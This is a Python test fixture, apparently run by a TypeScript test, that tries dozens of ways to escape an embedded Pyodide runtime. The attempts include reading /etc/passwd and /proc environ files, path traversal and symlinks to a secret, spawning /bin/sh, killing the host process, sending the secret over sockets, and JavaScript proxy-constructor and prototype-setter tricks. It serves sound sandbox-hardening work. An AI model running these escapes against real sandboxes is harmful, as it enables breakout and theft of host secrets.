"""Attempts to get out of the embedded runtime. Each returns what it reached, or something false, or raises.

Run by escape.test.ts, which fills in PLACES and looks afterwards whether anything outside was touched.
"""
import gc
import importlib
import importlib.machinery
import importlib.util
import io
import json
import os
import socket
import sys
import time
import types

PLACES = json.loads('@PLACES@')
SECRET = PLACES['secret']
ATTEMPTS = []


def attempt(function):
    ATTEMPTS.append(function)
    return function


def attack(proxy):
    """From a JavaScript object to the host: what a proxy's attributes lead to."""
    for path in (('constructor',), ('constructor', 'constructor'), ('__proto__', 'constructor'), ('call', 'constructor'), ('toString', 'constructor'), ('bind', 'constructor')):
        found = proxy
        try:
            for name in path:
                found = getattr(found, name)
        except AttributeError:
            continue
        for code in ('return process', 'return globalThis', 'return import("node:fs")'):
            for make in (lambda: found(code), lambda: found.new(code)):
                try:
                    reached = make()()
                    if reached is not None:
                        return reached
                except Exception:
                    pass
    for name in ('process', 'require', 'mainModule', 'globalThis', '_module', '_api', 'FS', 'eval', 'Function', 'fetch', 'binding'):
        try:
            return getattr(proxy, name)
        except AttributeError:
            pass
    return None


def is_proxy(value):
    return any(kind.__name__.startswith('Js') and kind.__module__ in ('pyodide.ffi', 'builtins') for kind in type(value).__mro__)


def proxies():
    """Every JavaScript object that garbage collection, and what it sees, can find."""
    found = {}
    for holder in gc.get_objects():
        for value in (holder, *gc.get_referents(holder)):
            if is_proxy(value) and not isinstance(value, type):
                found[id(value)] = value
    return list(found.values())


def the_sleep():
    """The JavaScript function behind time.sleep."""
    return next(cell.cell_contents for cell in time.sleep.__closure__ if is_proxy(cell.cell_contents))


def border_functions():
    import torch._border as border
    return [vars(border)['_' + name] for name in border.NAMES]


# Files

@attempt
def read_passwd():
    return open('/etc/passwd').read()


@attempt
def read_secret_by_its_path():
    return open(PLACES['outside']).read()


@attempt
def read_secret_by_climbing():
    return open('../' + os.path.basename(os.path.dirname(PLACES['outside'])) + '/secret.txt').read()


@attempt
def read_secret_through_a_link():
    return open('link.txt').read()


@attempt
def read_secret_below_a_linked_folder():
    return open('linked/secret.txt').read()


@attempt
def climb_out_of_the_packages():
    return open('/lib/tensor-loupe/../../../../..' + PLACES['outside']).read()


@attempt
def climb_with_a_separator_in_a_name():
    folder = os.open('.', os.O_RDONLY)
    return os.open('..\\..\\etc', os.O_RDONLY, dir_fd=folder)


@attempt
def write_outside():
    os.makedirs(os.path.dirname(PLACES['outside']), exist_ok=True)
    with open(PLACES['outside'], 'w') as file:
        file.write('overwritten')
    # In memory this works; escape.test.ts looks at the real file.
    return False


@attempt
def write_in_the_workspace():
    with open('data.txt', 'w') as file:
        file.write('overwritten')
    return False


@attempt
def write_through_an_open_descriptor():
    os.write(os.open('data.txt', os.O_RDWR | os.O_CREAT), b'overwritten')
    return False


@attempt
def rename_over_a_workspace_file():
    open('/tmp/x', 'w').close()
    os.replace('/tmp/x', 'data.txt')
    return False


@attempt
def hard_link_to_the_secret():
    os.link(PLACES['outside'], '/tmp/hard')
    return SECRET in open('/tmp/hard').read()


@attempt
def read_the_own_process():
    for name in ('/proc/self/environ', '/proc/self/maps', '/proc/1/environ', '/proc/self/cmdline', '/dev/fd/3', '/proc/self/fd/3', '/dev/stdin'):
        try:
            text = open(name, 'rb').read()
            if text:
                return text
        except OSError:
            pass


@attempt
def home_of_the_user():
    for name in ('/root', '/home', '/Users', os.path.expanduser('~')):
        try:
            if set(os.listdir(name)) - {'pyodide', 'web_user'}:
                return os.listdir(name) if not PLACES['outside'].startswith(name) else None
        except OSError:
            pass


@attempt
def read_by_every_descriptor():
    for number in range(3, 64):
        try:
            data = os.pread(number, 100, 0)
            if SECRET.encode() in data:
                return data
        except OSError:
            pass


# The environment

@attempt
def environment():
    import posix
    return dict(os.environ) or {key: value for key, value in posix.environ.items() if SECRET in str(value)}


@attempt
def libc_environment():
    return os.getenv('TENSOR_LOUPE_SECRET') or os.path.expandvars('$TENSOR_LOUPE_SECRET') != '$TENSOR_LOUPE_SECRET'


# Processes

@attempt
def system():
    return os.system(f'touch {PLACES["marker"]}') == 0


@attempt
def popen():
    return os.popen('id').read()


@attempt
def subprocess_run():
    import subprocess
    return subprocess.run(['touch', PLACES['marker']])


@attempt
def fork():
    return os.fork() >= 0


@attempt
def spawn():
    return os.posix_spawn('/bin/sh', ['sh', '-c', f'touch {PLACES["marker"]}'], {})


@attempt
def execute():
    os.execv('/bin/sh', ['sh', '-c', f'touch {PLACES["marker"]}'])
    return True


@attempt
def fork_exec():
    import _posixsubprocess
    return _posixsubprocess


@attempt
def multiprocess():
    import multiprocessing
    process = multiprocessing.Process(target=print)
    process.start()
    return process.pid


@attempt
def kill_a_process():
    os.kill(PLACES['victim'], 9)
    # Inside there is no such process, and nothing happens; escape.test.ts looks whether it lives.
    return False


@attempt
def kill_the_group():
    os.killpg(os.getpgid(0), 9)
    return False


@attempt
def kill_the_host():
    os.kill(os.getppid(), 9)
    return False


# Sockets

@attempt
def connect():
    connection = socket.create_connection(('127.0.0.1', PLACES['port']), timeout=1)
    connection.sendall(SECRET.encode())
    return connection.recv(10)


@attempt
def connect_raw():
    plug = socket.SocketType(socket.AF_INET, socket.SOCK_STREAM)
    plug.setblocking(False)
    plug.connect_ex(('127.0.0.1', PLACES['port']))
    time.sleep(0.05)
    return plug.send(SECRET.encode())


@attempt
def datagram():
    plug = socket.SocketType(socket.AF_INET, socket.SOCK_DGRAM)
    plug.sendto(SECRET.encode(), ('127.0.0.1', PLACES['port']))
    # "Sent" into nothing; escape.test.ts listens.
    return False


@attempt
def listen():
    plug = socket.SocketType()
    plug.bind(('127.0.0.1', 0))
    plug.listen()
    plug.settimeout(0.1)
    return plug.accept()


@attempt
def fetch_by_http():
    import urllib.request
    return urllib.request.urlopen(f'http://127.0.0.1:{PLACES["port"]}/{SECRET}', timeout=1).read()


@attempt
def asyncio_connection():
    import asyncio
    return asyncio.run(asyncio.wait_for(asyncio.open_connection('127.0.0.1', PLACES['port']), 0.2))


@attempt
def unix_socket():
    plug = socket.socket(socket.AF_UNIX)
    plug.connect(PLACES['outside'])
    return plug


# JavaScript

@attempt
def import_js():
    import js
    return js


@attempt
def import_pyodide_js():
    import pyodide_js
    return pyodide_js.mountNodeFS('/mnt', '/')


@attempt
def import_submodules_of_js():
    return [importlib.import_module(name) for name in ('js.process', 'pyodide_js._api', 'pyodide_js.FS')]


@attempt
def run_js():
    from pyodide.code import run_js as run
    return run('process')


@attempt
def to_js():
    from pyodide.ffi import to_js as convert
    return attack(convert([1]))


@attempt
def create_proxy():
    from pyodide.ffi import create_proxy as create
    proxy = create(print)
    return is_proxy(proxy) and proxy


@attempt
def register_js_module():
    from pyodide.ffi import register_js_module as register
    register('own', the_sleep())
    return importlib.import_module('own')


@attempt
def objects_made_of_functions():
    """A weak reference to a function, or the array of its entries, is an object with a constructor and a prototype."""
    for function in [the_sleep(), *border_functions()]:
        for name in ('to_weakref', 'object_entries', 'object_keys', 'object_values', 'bind_sig', 'bind_class', 'to_py'):
            made = getattr(function, name, None)
            if made is not None:
                return name


@attempt
def setters_on_the_prototype_of_arrays():
    """The list of open files is an array: a setter on its next place would be handed the host's object."""
    function = the_sleep()
    make = function.to_weakref().constructor.constructor
    caught = function.object_entries()
    push = caught.push.bind(caught)
    for place in range(3, 40):
        descriptor = make.new()
        descriptor.set = push
        make.defineProperty(caught.constructor.prototype, str(place), descriptor)
    files = [open('data.txt') for _ in range(8)]
    return len(caught) or len(files) < 8


@attempt
def the_core_module():
    import _pyodide_core
    return _pyodide_core


@attempt
def the_core_module_by_its_loader():
    spec = importlib.machinery.ModuleSpec('_pyodide_core', importlib.machinery.BuiltinImporter, origin='built-in')
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return getattr(module, 'to_js', None) or getattr(module, 'create_proxy', None) or getattr(module, 'raw_call', None)


@attempt
def built_in_modules_by_their_loader():
    import _imp
    for name in ('_ctypes', '_testcapi', '_testinternalcapi', '_posixsubprocess', '_remote_debugging'):
        try:
            module = _imp.create_builtin(importlib.machinery.ModuleSpec(name, importlib.machinery.BuiltinImporter))
            if module is not None:
                return module
        except ImportError:
            pass


@attempt
def pyodide_imported_again():
    for name in [name for name in sys.modules if 'yodide' in name]:
        del sys.modules[name]
    import _pyodide._importhook as hook
    import pyodide.ffi
    hook.register_js_finder()
    return hook.jsfinder.jsproxies or getattr(pyodide.ffi, 'IN_PYODIDE', False)


@attempt
def every_object_that_gc_sees():
    for proxy in proxies():
        reached = attack(proxy)
        if reached is not None:
            return proxy, reached


@attempt
def functions_that_gc_sees():
    names = {'run_js', 'to_js', 'create_proxy', 'create_once_callable', 'raw_call', 'register_js_module', 'run_sync'}
    return [holder for holder in gc.get_objects() if type(holder) is type(gc.collect) and holder.__name__ in names and getattr(holder, '__module__', '') in ('_pyodide_core', None)]


@attempt
def names_in_every_namespace():
    for holder in gc.get_objects():
        if type(holder) is dict:
            for key, value in list(holder.items()):
                if is_proxy(value) and not isinstance(value, type) and attack(value) is not None:
                    return key, value


@attempt
def frames_of_the_runtime():
    frame = sys._getframe()
    while frame is not None:
        for namespace in (frame.f_locals, frame.f_globals):
            for value in list(namespace.values()):
                if is_proxy(value) and not isinstance(value, type) and attack(value) is not None:
                    return value
        frame = frame.f_back


@attempt
def closures_of_the_runtime():
    for function in [holder for holder in gc.get_objects() if isinstance(holder, types.FunctionType) and holder.__closure__]:
        for cell in function.__closure__:
            try:
                value = cell.cell_contents
            except ValueError:
                continue
            if is_proxy(value) and attack(value) is not None:
                return value


@attempt
def constructor_of_sleep():
    return attack(the_sleep())


@attempt
def sleep_as_a_class():
    return the_sleep().new(1)


@attempt
def attributes_of_sleep():
    return [name for name in dir(the_sleep()) if name in ('constructor', 'call', 'apply', 'bind', 'prototype', '__proto__', 'caller', 'arguments')]


@attempt
def write_to_sleep():
    function = the_sleep()
    function.constructor = print
    return function.constructor


@attempt
def error_thrown_by_javascript():
    try:
        the_sleep()(object())
        the_sleep()(1, 2, 3)
        the_sleep()(10 ** 400)
    except Exception as error:
        inner = getattr(error, 'js_error', None)
        return inner is not None and attack(inner)


@attempt
def callback_from_javascript():
    seen = []

    class Number:
        def __getattr__(self, name):
            seen.append(name)
            return lambda *args: seen.extend(args)

    the_sleep()(Number())
    return [value for value in seen if is_proxy(value) and attack(value)]


@attempt
def the_engines_functions():
    for function in border_functions():
        reached = attack(function)
        if reached is not None:
            return function, reached


@attempt
def errors_of_the_engine():
    for function in border_functions():
        for arguments in ((), (object(),), ([],), (lambda *args: args,), ('constructor', '__proto__', 'x'), (2**70, -2**70), ('\ud800', 'x' * 5000), (True, None, 1e308)):
            try:
                answer = function(*arguments)
                if is_proxy(answer) and attack(answer) is not None:
                    return answer
            except Exception as error:
                inner = getattr(error, 'js_error', None)
                if inner is not None and attack(inner) is not None:
                    return inner


@attempt
def subclasses_of_proxies():
    kinds = [kind for kind in object.__subclasses__() if kind.__name__ == 'JsProxy']
    return [kind() for kind in kinds if kind()]


# Memory and code

@attempt
def ctypes():
    import ctypes as module
    return module.pythonapi


@attempt
def ctypes_under_another_name():
    source = open(importlib.util.find_spec('ctypes').origin).read() if importlib.util.find_spec('ctypes') else ''
    module = types.ModuleType('other')
    exec(source, vars(module))
    return module.string_at(0)


@attempt
def shared_library():
    """A WebAssembly module of our own that calls Emscripten's way to run JavaScript."""
    def number(value):
        return bytes([value])

    def string(text):
        return number(len(text)) + text.encode()

    def section(kind, body):
        return number(kind) + number(len(body)) + body

    library = (
        b'\0asm\1\0\0\0'
        + section(0, string('dylink.0') + b'\1\4\0\0\0\0')
        + section(1, b'\2\x60\1\x7f\0\x60\0\1\x7f')
        + section(2, b'\1' + string('env') + string('emscripten_run_script') + b'\0\0')
        + section(3, b'\1\1')
        + section(7, b'\1' + string('PyInit_own') + b'\0\1')
        + section(10, b'\1\x08\0\x41\0\x10\0\x41\0\x0b')
    )
    os.makedirs('/tmp/lib', exist_ok=True)
    path = '/tmp/lib/own.so'
    with open(path, 'wb') as file:
        file.write(library)
    loader = importlib.machinery.ExtensionFileLoader('own', path)
    return importlib.util.module_from_spec(importlib.util.spec_from_file_location('own', path, loader=loader))


@attempt
def library_by_name():
    import _imp
    return _imp.create_dynamic(importlib.machinery.ModuleSpec('libc', None, origin='libc.so.6'))


@attempt
def threads():
    import _thread
    return _thread.start_new_thread(print, ())


@attempt
def devices():
    for name in sorted(os.listdir('/dev')):
        if name not in ('null', 'tty', 'tty1', 'random', 'urandom', 'shm', 'stdin', 'stdout', 'stderr', 'trace'):
            return name


@attempt
def the_runtimes_own_module():
    import _embedded
    _embedded.forget_pyodide()
    return [value for value in vars(_embedded).values() if is_proxy(value)] or _embedded._held or _embedded._loaders


def run():
    results = {}
    for function in ATTEMPTS:
        try:
            reached = function()
            results[function.__name__] = repr(reached)[:200] if reached else ''
        except SystemExit:
            raise
        except BaseException as error:
            results[function.__name__] = ''
            del error
    print(json.dumps(results))


if __name__ == '__main__':
    run()
